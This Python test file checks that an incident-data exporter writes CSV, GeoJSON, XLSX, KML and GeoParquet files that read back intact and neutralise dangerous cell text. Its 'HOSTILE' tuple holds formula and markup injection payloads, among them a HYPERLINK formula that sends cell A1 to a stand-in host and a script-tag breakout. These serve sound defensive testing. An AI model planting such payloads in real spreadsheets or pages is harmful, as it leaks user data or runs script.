"""What goes out comes back as it was; what would run or break a format does neither."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, date, datetime, time

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest
import shapely
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from incidents.errors import Cancelled
from incidents.files import (
    Selection,
    read_table,
    template_csv,
    write_csv,
    write_geojson,
    write_geoparquet,
    write_kml,
    write_xlsx,
)
from incidents.files.exchange import SHEET_CELL
from incidents.files.formulas import defuse, restore
from incidents.files.selection import COLUMNS, NUMBERS
from incidents.files.writing import flat_rows
from incidents.model import (
    Actor,
    Cell,
    Claim,
    Counter,
    DateBasis,
    Estimate,
    Incident,
    Measure,
    Moment,
    Person,
    Place,
    Precision,
    Quote,
    Report,
    Standing,
    Weapon,
    When,
)

WORDS = st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=30)
WRITERS = {
    "csv": write_csv,
    "geojson": write_geojson,
    "xlsx": write_xlsx,
    "kml": write_kml,
    "geoparquet": write_geoparquet,
}
BACK = {"csv": write_csv, "geojson": write_geojson}
HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"y")',
    "'=1+1",
    "-2+3",
    "@SUM(A1)",
    "\r=1+1",
    "a\x00b\x1bc\x7f",
    "]]></value><script>alert(1)</script>",
    "\ufffe\uffff",
    'he said "x"\nand left, ok;',
    "NaN",
)
ESTIMATES = st.one_of(
    st.integers(0, 9_999).map(Estimate.exactly),
    st.integers(0, 9_999).map(Estimate.at_least),
    st.just(Estimate.vague("dozens")),
    st.integers(1, 99).map(lambda n: Estimate(n, None, n + 3)),
    st.integers(1, 99).map(lambda n: Estimate(None, None, n)),
)


def origins(incident_id):
    return st.one_of(
        WORDS.map(lambda t: Quote(report_id="r1", start=3, end=3 + len(t), text=t)),
        WORDS.map(lambda t: Cell(import_id="imp", line=3, column="killed", text=t)),
        WORDS.map(
            lambda t: Person(author=t, at=datetime(2025, 1, 1, 9, tzinfo=UTC), reason=incident_id)
        ),
    )


def claims_of(incident_id, at):
    return st.builds(
        Claim,
        claim_id=st.just(f"clm_{incident_id}_{at}"),
        incident_id=st.just(incident_id),
        measure=st.sampled_from(Measure),
        estimate=ESTIMATES,
        origin=origins(incident_id),
        source=WORDS,
        said=st.just(Moment.of(date(2025, 4, 24 + at))),
        counted_by=st.sampled_from([None, Counter("SES", Standing.COUNTING)]),
        carried=st.booleans(),
    )


@st.composite
def selections(draw):
    incidents, claims = [], []
    for number in range(draw(st.integers(1, 4))):
        name = f"inc_{number}"
        placed = draw(st.booleans())
        lat = draw(st.floats(-90, 90)) if placed else None
        lon = draw(st.floats(-180, 180)) if placed else None
        incidents.append(
            Incident(
                incident_id=name,
                place=Place(
                    name=draw(st.none() | WORDS),
                    precision=draw(st.sampled_from(Precision)) if placed else Precision.UNKNOWN,
                    lat=lat,
                    lon=lon,
                    country="UA",
                ),
                when=When(
                    start=date(2025, 4, 24),
                    end=draw(st.sampled_from([None, date(2025, 4, 25)])),
                    basis=draw(st.sampled_from(DateBasis)),
                    local_time=draw(st.sampled_from([None, time(3, 20)])),
                ),
                parent_id=f"inc_{number - 1}" if number and draw(st.booleans()) else None,
                title=draw(st.none() | WORDS),
                notes=draw(st.none() | WORDS),
                weapons=tuple(
                    draw(st.lists(st.builds(Weapon, WORDS, st.just("drone")), max_size=2))
                ),
                actors=tuple(draw(st.lists(st.builds(Actor, WORDS), max_size=2))),
                native=tuple(draw(st.lists(st.tuples(WORDS, WORDS), max_size=2))),
            )
        )
        claims += [draw(claims_of(name, at)) for at in range(draw(st.integers(0, 3)))]
    return Selection(incidents=tuple(incidents), claims=tuple(claims), described=draw(WORDS))


def one(**changes):
    incident = Incident(
        incident_id="inc_1",
        place=Place(name="Kyiv", precision=Precision.SETTLEMENT, lat=50.45, lon=30.52),
        when=When(start=date(2025, 4, 24)),
    )
    claim = Claim(
        claim_id="clm_1",
        incident_id="inc_1",
        measure=Measure.KILLED,
        estimate=Estimate.at_least(12),
        origin=Quote(report_id="r1", start=0, end=2, text="12"),
        source="A paper",
        said=Moment.of(date(2025, 4, 24)),
    )
    report = Report(
        report_id="r1", text="12 dead", publisher="P", published=date(2025, 4, 24), url="https://x/"
    )
    return Selection(
        incidents=(replace(incident, **changes),), claims=(claim,), reports=(report,), revision=7
    )


def written(selection, kind, **options):
    out = io.BytesIO()
    count = WRITERS[kind](selection, out, **options)
    return out.getvalue(), count


def rows_of(draft):
    return [(a.incident, a.claims) for a in draft.accepted]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(selections(), st.sampled_from(sorted(BACK)))
def test_what_we_export_reads_back_identical(selection, kind):
    content, count = written(selection, kind)
    draft = read_table(content, name=f"export.{kind}")
    assert draft.rejected == ()
    assert rows_of(draft) == list(selection.rows())
    assert draft.account.holds
    assert count == len(draft.accepted)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(selections())
def test_with_an_hxl_row_it_reads_back_too(selection):
    content, _ = written(selection, "csv", hxl=True)
    assert rows_of(read_table(content, name="export.csv")) == list(selection.rows())


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(selections())
def test_every_format_takes_every_text(selection):
    ET.fromstring(written(selection, "kml")[0])  # noqa: S314 - our own output
    assert openpyxl.load_workbook(io.BytesIO(written(selection, "xlsx")[0])).active.max_row > 1
    table = pq.read_table(io.BytesIO(written(selection, "geoparquet")[0]))
    assert table.num_rows == len(selection.incidents)
    json.loads(written(selection, "geojson")[0], parse_constant=pytest.fail)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(WORDS | st.sampled_from(HOSTILE), min_size=1, max_size=4))
@example([*HOSTILE])
def test_sheet_and_parquet_say_in_each_cell_what_the_row_says(texts):
    given_ = one()
    many = [
        replace(given_.incidents[0], incident_id=f"inc_{n}", notes=t, title=t)
        for n, t in enumerate(texts)
    ]
    selection = replace(given_, incidents=many)
    rows = [{c: typed(c, row[c]) for c in COLUMNS} for row in flat_rows(selection)]
    sheet = openpyxl.load_workbook(io.BytesIO(written(selection, "xlsx")[0])).active
    header, *cells = sheet.iter_rows(values_only=True)
    assert [dict(zip(header, line, strict=True)) for line in cells] == [
        {c: one_line_end(v) for c, v in row.items()} for row in rows
    ]
    table = pq.read_table(io.BytesIO(written(selection, "geoparquet")[0])).drop(["geometry"])
    assert [{c: worded(v) for c, v in row.items()} for row in table.to_pylist()] == rows
    root = ET.fromstring(written(selection, "kml")[0])  # noqa: S314 - our own output
    notes = [value.text for value in root.iterfind(".//{*}Data[@name='notes']/{*}value")]
    assert notes == [row["notes"] for row in rows]


def worded(value):
    return value.isoformat() if isinstance(value, date) else value


def one_line_end(value):
    return re.sub(r"\r\n?", "\n", value) if isinstance(value, str) else value


def typed(column, text):
    return None if text == "" else float(text) if column in NUMBERS else text


@given(WORDS | st.sampled_from(HOSTILE))
def test_defusing_is_reversible_and_leaves_nothing_that_runs(text):
    assert restore(defuse(text)) == text
    assert defuse(text)[0] not in "=@\t\r" or defuse(text)[0] == "'"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_neither_run_nor_break(text):
    selection = one(notes=text, title=text)
    (row,) = list(csv.DictReader(io.StringIO(written(selection, "csv")[0].decode("utf-8-sig"))))
    assert row["notes"][:1] not in {"=", "+", "-", "@", "\t", "\r"}
    sheet = openpyxl.load_workbook(io.BytesIO(written(selection, "xlsx")[0])).active
    assert {c.data_type for r in sheet.iter_rows() for c in r} <= {"s", "n"}
    root = ET.fromstring(written(selection, "kml")[0])  # noqa: S314 - our own output
    assert not [e for e in root.iter() if e.tag.endswith("script")]


def test_every_row_says_where_it_came_from_and_on_what_terms():
    (row,) = csv.DictReader(io.StringIO(written(one(), "csv")[0].decode("utf-8-sig")))
    assert (row["dataset"], row["licence"], row["data_revision"]) == ("reports", "CC BY 4.0", "7")
    assert (row["as_of"], row["selection"], row["url"]) == ("now", "everything", "https://x/")
    assert (row["killed_low"], row["killed"], row["killed_high"]) == ("12", "12", "")


def test_placeholders_go_out_only_on_request():
    selection = one(placeholder=True)
    assert written(selection, "csv")[1] == 0
    assert written(replace(selection, placeholders=True), "csv")[1] == 1


def test_an_edited_row_is_read_from_its_cells():
    content, _ = written(one(), "csv")
    edited = content.decode("utf-8-sig").replace('"Kyiv"', '"Brovary"', 1)
    (accepted,) = read_table(edited.encode(), name="edited.csv").accepted
    assert accepted.incident.place.name == "Brovary"
    assert accepted.claims[0].estimate.low == 12
    assert isinstance(accepted.claims[0].origin, Cell)


@pytest.mark.parametrize(
    "record", ["", "{", "[]", '{"incident":{},"claims":[]}', '{"incident":{"x":1},"claims":[]}']
)
def test_a_broken_record_is_read_from_its_cells(record):
    content, _ = written(one(), "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    rows[1][-1] = record
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    (accepted,) = read_table(out.getvalue().encode(), name="x.csv").accepted
    assert accepted.incident.incident_id != "inc_1"
    assert accepted.incident.place.name == "Kyiv"


def test_geojson_is_a_collection_with_null_for_no_place():
    unplaced = one(place=Place(name="X", precision=Precision.UNKNOWN))
    collection = json.loads(written(unplaced, "geojson")[0])
    assert collection["type"] == "FeatureCollection"
    assert collection["features"][0]["geometry"] is None
    assert collection["features"][0]["properties"]["killed_high"] is None


def test_a_sheet_cell_is_cut_at_its_limit():
    sheet = openpyxl.load_workbook(io.BytesIO(written(one(notes="x" * 40_000), "xlsx")[0])).active
    assert max(len(str(c.value)) for c in sheet[2]) == SHEET_CELL


def test_geoparquet_says_what_its_geometry_is():
    table = pq.read_table(io.BytesIO(written(one(), "geoparquet")[0]))
    geo = json.loads(table.schema.metadata[b"geo"])
    # Source: GeoParquet 1.1.0, "File metadata" and "Column metadata"; without a "crs" it is
    # OGC:CRS84, longitude first.
    assert geo == {
        "version": "1.1.0",
        "primary_column": "geometry",
        "columns": {"geometry": {"encoding": "WKB", "geometry_types": ["Point"]}},
    }
    assert table.column_names == [*COLUMNS, "geometry"]


def test_geometries_of_a_geoparquet_are_plain_points_or_nothing():
    placed, *_ = one().incidents
    nowhere = replace(
        placed, incident_id="inc_x", place=Place(name="x", precision=Precision.UNKNOWN)
    )
    out = written(replace(one(), incidents=[placed, nowhere]), "geoparquet")[0]
    column = pq.ParquetFile(io.BytesIO(out)).schema.column(len(COLUMNS))
    assert (column.name, column.physical_type) == ("geometry", "BYTE_ARRAY")
    assert (column.max_definition_level, column.max_repetition_level) == (1, 0)
    first, second = pq.read_table(io.BytesIO(out))["geometry"].to_pylist()
    # Little-endian, a point, two coordinates: no Z and no reference of its own.
    assert (first[:5], len(first)) == (b"\x01\x01\x00\x00\x00", 21)
    assert second is None


def test_days_and_counts_of_a_geoparquet_are_typed():
    schema = pq.read_schema(io.BytesIO(written(one(), "geoparquet")[0]))
    kinds = {name: str(schema.field(name).type) for name in ("date", "killed", "latitude", "notes")}
    assert kinds == {
        "date": "date32[day]", "killed": "int64", "latitude": "double", "notes": "string"
    }  # fmt: skip


def test_another_reader_finds_the_points_of_a_geoparquet(tmp_path):
    path = tmp_path / "incidents.parquet"
    path.write_bytes(written(one(), "geoparquet")[0])
    (row,) = duckdb.connect().execute(
        "SELECT longitude, latitude, geometry::BLOB, killed_low FROM read_parquet(?)", [str(path)]
    ).fetchall()  # fmt: skip
    point = shapely.from_wkb(bytes(row[2]))
    assert (point.x, point.y) == row[:2]
    assert None not in row[:2]


def test_an_empty_selection_is_a_header():
    empty = Selection(incidents=())
    assert [written(empty, kind)[1] for kind in WRITERS] == [0] * len(WRITERS)


def test_the_template_is_accepted_as_it_is():
    draft = read_table(template_csv(), name="template.csv", today=date(2026, 1, 1))
    (accepted,) = draft.accepted
    assert draft.account.holds
    assert {c.measure for c in accepted.claims} == {Measure.KILLED, Measure.INJURED}


@pytest.mark.parametrize("rows", [0, 2], ids=["before the first row", "between rows"])
def test_a_workbook_that_is_given_up_leaves_no_temporary_file(tmp_path, monkeypatch, rows):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    class Stopped(Selection):
        __slots__ = ()

        def rows(self):
            for _ in range(rows):
                yield from one().rows()
            assert not rows or list(tmp_path.iterdir())
            raise Cancelled("stopped")

    with pytest.raises(Cancelled):
        write_xlsx(Stopped(incidents=(), reports=()), io.BytesIO())
    assert list(tmp_path.iterdir()) == []
